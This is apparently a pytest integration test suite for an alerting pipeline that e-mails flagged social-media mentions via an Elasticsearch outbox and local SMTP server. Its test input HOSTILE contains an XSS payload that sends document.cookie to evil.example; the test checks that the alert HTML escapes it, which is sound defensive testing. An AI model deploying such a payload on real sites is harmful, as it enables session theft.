"""Alert e-mails end to end against the real Elasticsearch outbox and a real SMTP server (aiosmtpd) on loopback."""

from __future__ import annotations

import threading
from datetime import UTC, datetime, timedelta
from email.utils import parsedate_to_datetime

import pytest
from click.testing import CliRunner

from pipeline.cli import cli
from pipeline.settings import settings_to_env
from tests.alerts.conftest import AlertEnv, assert_well_formed, by_alert_id
from tests.alerts.factories import classified

pytestmark = pytest.mark.integration

HOSTILE = ('IMS manager Dave is grooming the apprentices <script>document.location="https://evil.example/?c="'
           '+document.cookie</script> & nobody at HR cares. Ring him on 07700 900123 <b>NOW</b>')


def mid_hour() -> datetime:
    """Half past the current UTC hour: a test that steps the clock by seconds or minutes never crosses an hour."""
    return datetime.now(UTC).replace(minute=30, second=0, microsecond=0)


def test_immediate_alert_content_headers_and_routing(alert_env: AlertEnv) -> None:
    alert_env.start_catcher()
    svc = alert_env.service()
    long_tail = " Filler words about the weather and the trains." * 20
    item = classified(HOSTILE + long_tail, labels=["safeguarding", "harassment"], risk=91, is_employee=True,
                      explanations={"safeguarding": ["grooming the apprentices"], "harassment": ["nobody at HR"]})
    logo = classified("Made the IMS logo my profile pic, looks class", labels=["logo_misuse"], risk=75,
                      source="instagram")
    before = datetime.now(UTC).replace(microsecond=0)
    report = svc.enqueue([item, logo])
    assert len(report.immediate_created) == 3
    delivered = svc.deliver_due()
    assert len(delivered.sent) == 3

    messages = alert_env.received()
    assert sorted(str(m["To"]) for m in messages) == [
        "communications@ims.example", "hr@ims.example", "safeguarding-lead@ims.example"]
    to_lead = next(m for m in messages if m["To"] == "safeguarding-lead@ims.example")
    assert to_lead["Subject"] == "[IMS alert] risk 91: harassment, safeguarding (twitter)"
    assert to_lead["From"] == "IMS Monitor <ims-monitor@ims.example>"
    assert to_lead["X-IMS-Alert-Id"] == f"immediate:{item.mention.mention_id}"
    assert to_lead["Auto-Submitted"] == "auto-generated"
    assert str(to_lead["Message-ID"]).startswith("<") and str(to_lead["Message-ID"]).endswith("@ims.example>")
    assert len({str(m["Message-ID"]) for m in messages}) == 3
    assert before <= parsedate_to_datetime(str(to_lead["Date"])) <= datetime.now(UTC)
    assert to_lead.get_content_type() == "multipart/alternative"
    for message in messages:
        assert_well_formed(message, kind="immediate")
    text = to_lead.get_body(("plain",)).get_content()
    html = to_lead.get_body(("html",)).get_content()
    for body in (text, html):
        assert "grooming the apprentices" in body and "nobody at HR" in body
        assert "07700 900123" not in body and "[number]" in body  # contact details removed
        assert item.mention.author.handle not in body and str(item.mention.author.display_name) not in body
        assert item.mention.url not in body
        assert "Filler words about the weather and the trains. Filler words" not in body.replace("\n", " ")[-200:]
        assert "by an IMS employee account" in body
        assert f"http://127.0.0.1:8080/items/{item.mention.mention_id.replace(':', '%3A')}" in body
    assert len(text) < 2000
    assert "<script>" not in html and "<b>NOW" not in html
    assert "&lt;script&gt;" in html and "&amp; nobody" in html and "&lt;b&gt;NOW&lt;/b&gt;" in html
    logo_mail = next(m for m in messages if m["To"] == "communications@ims.example")
    assert logo_mail["Subject"] == "[IMS alert] risk 75: logo_misuse (instagram)"


def test_replays_restarts_and_two_workers_send_each_alert_once(alert_env: AlertEnv) -> None:
    alert_env.start_catcher()
    items = [classified(f"IMS staffer {n} is harassing a colleague", labels=["harassment"], risk=80)
             for n in range(6)]
    worker_a, worker_b = alert_env.service(), alert_env.service()
    first = worker_a.enqueue(items)
    again = worker_b.enqueue(items)  # a replay / a second worker / a restart re-reading the same records
    assert len(first.immediate_created) == 6 and again.immediate_created == []
    assert len(again.immediate_existing) == 6

    # worker A claims one e-mail and dies before sending it (its lease is still running)
    worker_a.outbox.refresh()
    stored = worker_a.outbox.due_messages(now=datetime.now(UTC))[0]
    assert worker_a.deliverer._claim(stored, datetime.now(UTC)) is not None

    barrier = threading.Barrier(2)
    reports = []

    def deliver(svc) -> None:
        barrier.wait()
        reports.append(svc.deliver_due())

    threads = [threading.Thread(target=deliver, args=(svc,)) for svc in (worker_a, worker_b)]
    for t in threads:
        t.start()
    for t in threads:
        t.join()
    assert sum(len(r.sent) for r in reports) == 5  # the claimed one waits for its lease
    assert by_alert_id(alert_env.received()) == {k: 1 for k in by_alert_id(alert_env.received())}

    # after the lease runs out a restarted worker sends it, once; further passes send nothing
    later = datetime.now(UTC) + timedelta(seconds=alert_env.settings.alerts.lease_s + 1)
    restarted = alert_env.service()
    assert len(restarted.deliver_due(now=later).sent) == 1
    assert restarted.deliver_due(now=later + timedelta(seconds=5)).sent == []
    worker_b.enqueue(items)
    assert worker_b.deliver_due(now=later + timedelta(seconds=10)).sent == []
    counts = by_alert_id(alert_env.received())
    assert len(counts) == 6 and set(counts.values()) == {1}


def test_flood_control_moves_the_overflow_into_the_next_digest(alert_env: AlertEnv) -> None:
    alert_env.start_catcher()
    svc = alert_env.service(flood_limit_per_hour=2, routes=[], default_recipients=["hr@ims.example"])
    items = [classified(f"IMS manager {n} leaked the client list", labels=["confidential_info"], risk=70 + n)
             for n in range(5)]
    now = mid_hour()  # the limit is per clock hour: keep the whole test inside one
    later = now + timedelta(minutes=5)
    svc.enqueue(items, now=now)
    report = svc.deliver_due(now=now)
    assert len(report.sent) == 2 and len(report.overflow) == 3
    assert svc.deliver_due(now=later).sent == []  # the limit holds for the rest of the hour

    evaluated = svc.evaluate(now=later, flush_digest=True)
    assert len(evaluated.digests) == 1
    assert len(svc.deliver_due(now=later).sent) == 1
    messages = alert_env.received()
    digest = next(m for m in messages if m["X-IMS-Alert-Kind"] == "digest")
    assert digest["Subject"].startswith("[IMS digest] 3 flagged items, ")
    assert digest["Subject"].endswith("(3 held back by the alert limit)")
    text = digest.get_body(("plain",)).get_content()
    assert "3 high-risk items held back: you had reached the limit of 2 immediate alerts in an hour" in text
    assert "Flagged for review" not in text
    svc.outbox.refresh()
    overflow = svc.outbox.messages(status="overflow")
    assert len(overflow) == 3 and all("over the limit of 2" in m["last_error"] for m in overflow)
    held_back = {m["mention_ids"][0] for m in overflow}
    for item in items:
        in_digest = item.mention.mention_id.replace(":", "%3A") in text
        assert in_digest == (item.mention.mention_id in held_back)

    assert svc.deliverer.flood.used(recipient="hr@ims.example", now=later) == 2
    svc.evaluate(now=now + timedelta(hours=3))  # last hours' flood slots are pruned
    assert svc.client.count(index=svc.outbox.indices.flood_slots)["count"] == 0


def test_digest_collects_a_period_per_recipient_once(alert_env: AlertEnv) -> None:
    alert_env.start_catcher()
    svc = alert_env.service()
    items = [classified("IMS logo on our stag-do t-shirts", labels=["logo_misuse"], risk=30),
             classified("IMS are a shambles, avoid", labels=["reputation_risk"], risk=45, source="reddit"),
             classified("IMS client Brackenfield paid us £4.2m", labels=["confidential_info"], risk=40)]
    now = mid_hour()  # digests are hourly: keep each step's clock well inside its hour
    svc.enqueue(items, now=now)
    assert svc.evaluate(now=now).digests == []  # the period has not ended
    next_period = now + timedelta(hours=1)
    created = svc.evaluate(now=next_period).digests
    assert sorted(i.rsplit("/", 1)[1] for i in created) == ["communications@ims.example", "hr@ims.example"]
    assert svc.evaluate(now=next_period + timedelta(seconds=30)).digests == []  # composed once
    svc.deliver_due(now=next_period)
    digests = {str(m["To"]): m for m in alert_env.received()}
    for message in digests.values():
        assert_well_formed(message, kind="digest")
    comms = digests["communications@ims.example"].get_body(("plain",)).get_content()
    assert "IMS digest: 2 flagged items" in comms
    assert comms.index("risk 45/100") < comms.index("risk 30/100")  # highest risk first
    assert "stag-do" in comms and "shambles" in comms and "Brackenfield" not in comms
    hr = digests["hr@ims.example"]
    assert hr["Subject"].startswith("[IMS digest] 1 flagged item, ")
    assert "held back" not in hr["Subject"]

    late = classified("IMS logo on a fake recruitment page", labels=["logo_misuse"], risk=35)
    svc.enqueue([late], now=next_period)  # arrives after the first digest: goes into the next one
    assert svc.evaluate(now=next_period + timedelta(seconds=40)).digests == []
    assert len(svc.evaluate(now=next_period + timedelta(hours=1)).digests) == 1


def test_surge_raises_one_alert(alert_env: AlertEnv) -> None:
    alert_env.start_catcher()
    svc = alert_env.service(surge_window_minutes=15, surge_baseline_hours=6, surge_factor=4.0,
                            surge_min_count=8, surge_metrics=["mentions"], surge_cooldown_minutes=60)
    now = datetime.now(UTC)

    def at(moment: datetime) -> str:
        return moment.strftime("%Y-%m-%dT%H:%M:%S.%fZ")

    baseline = [classified("Nice chat with IMS support", labels=[], collected_at=at(now - timedelta(minutes=20 + 30 * n)))
                for n in range(12)]  # about one per 30 minutes: 0.5 per 15-minute window
    svc.enqueue(baseline, now=now)
    assert svc.evaluate(now=now).surges == []
    burst = [classified(f"IMS is trending: post {n}", labels=["reputation_risk"] if n % 2 else [], risk=40,
                        collected_at=at(now - timedelta(minutes=n + 1))) for n in range(9)]
    svc.enqueue(burst, now=now)
    created = svc.evaluate(now=now).surges
    assert sorted(i.rsplit("/", 1)[1] for i in created) == ["communications@ims.example", "hr@ims.example"]
    assert svc.evaluate(now=now + timedelta(minutes=5)).surges == []  # still surging: no second alert
    sent = svc.deliver_due(now=now + timedelta(minutes=5)).sent
    # (when the test runs just before the hour, the baseline items' hourly digest falls due too)
    assert len([alert for alert in sent if alert.startswith("surge:")]) == 2
    mail = next(m for m in alert_env.received() if m["X-IMS-Alert-Kind"] == "surge")
    assert_well_formed(mail, kind="surge")
    assert "reputation_risk (4)" in mail.get_body(("html",)).get_content()
    assert mail["Subject"] == "[IMS surge] 9 mentions of IMS in 15 min (usually 0.5)"
    text = mail.get_body(("plain",)).get_content()
    assert "That is 18.0 times the usual 0.5 per 15 minutes" in text
    assert "reputation_risk (4)" in text and "twitter (9)" in text

    svc.evaluate(now=now + timedelta(hours=8))  # activity older than baseline + window is pruned
    assert svc.client.count(index=svc.outbox.indices.activity)["count"] == 0


def test_mail_server_down_then_up_every_alert_arrives_once(alert_env: AlertEnv) -> None:
    svc = alert_env.service()
    items = [classified(f"IMS supervisor {n} bullying new starters", labels=["harassment"], risk=75)
             for n in range(4)]
    svc.enqueue(items)
    now = datetime.now(UTC)
    down = svc.deliver_due(now=now)  # nothing listens on the port
    assert down.paused and down.sent == [] and len(down.deferred) == 1
    assert svc.deliver_due(now=now + timedelta(seconds=1)).paused  # waits, no hammering
    svc.outbox.refresh()
    pending = svc.outbox.messages(status="pending")
    assert len(pending) == 4
    assert any(m["attempts"] == 1 and "cannot open an SMTP session" in m["last_error"] for m in pending)

    alert_env.start_catcher(temporary_failures=1)  # back up, but the first message gets a 451
    first_retry = svc.deliver_due(now=now + timedelta(seconds=6))
    svc.outbox.refresh()
    retried = svc.outbox.messages(status="pending")
    assert len(first_retry.deferred) == 1 and [m["smtp_code"] for m in retried] == [451]
    assert retried[0]["attempts"] == 2 and "temporary failure" in retried[0]["last_error"]
    svc.deliver_due(now=now + timedelta(seconds=30))
    svc.deliver_due(now=now + timedelta(seconds=60))
    counts = by_alert_id(alert_env.received())
    assert len(counts) == 4 and set(counts.values()) == {1}
    svc.outbox.refresh()
    assert svc.outbox.counts() == {"immediate": {"sent": 4}}


def test_permanent_rejection_is_recorded_and_not_retried(alert_env: AlertEnv) -> None:
    alert_env.start_catcher(reject_recipients=["safeguarding-lead@ims.example"])
    svc = alert_env.service()
    item = classified("IMS team leader sending kids vodka pics", labels=["safeguarding"], risk=95)
    svc.enqueue([item])
    report = svc.deliver_due()
    assert len(report.sent) == 1 and len(report.failed) == 1
    later = datetime.now(UTC) + timedelta(days=1)
    assert svc.deliver_due(now=later).sent == []
    assert [str(m["To"]) for m in alert_env.received()] == ["hr@ims.example"]

    result = CliRunner().invoke(cli, ["alerts", "outbox", "list", "--status", "failed"],
                                env=settings_to_env(alert_env.settings))
    assert result.exit_code == 0, result.output
    assert '"recipient": "safeguarding-lead@ims.example"' in result.output
    assert '"smtp_code": 550' in result.output and "recipient address rejected" in result.output
    assert '"attempts": 1' in result.output
    status = CliRunner().invoke(cli, ["alerts", "outbox", "status"], env=settings_to_env(alert_env.settings))
    assert '"immediate": {' in status.output and '"failed": 1' in status.output and '"sent": 1' in status.output


def test_a_damaged_outbox_document_is_marked_failed_not_retried(alert_env: AlertEnv) -> None:
    alert_env.start_catcher()
    svc = alert_env.service()
    svc.ensure_indices()
    stamp = datetime.now(UTC).strftime("%Y-%m-%dT%H:%M:%S.%fZ")
    svc.outbox.create(svc.outbox.indices.messages, "immediate:x/hr@ims.example", {
        "outbox_id": "immediate:x/hr@ims.example", "alert_id": "immediate:x", "kind": "immediate",
        "recipient": "hr@ims.example", "status": "pending", "created_at": stamp, "next_attempt_at": stamp,
        "attempts": 0, "mention_ids": ["x"]})  # no subject, body or Message-ID
    assert svc.deliver_due().failed == ["immediate:x/hr@ims.example"]
    svc.outbox.refresh()
    [failed] = svc.outbox.messages(status="failed")
    assert "cannot build the e-mail" in failed["last_error"]
    assert svc.deliver_due(now=datetime.now(UTC) + timedelta(days=1)).failed == []
    assert alert_env.received() == []
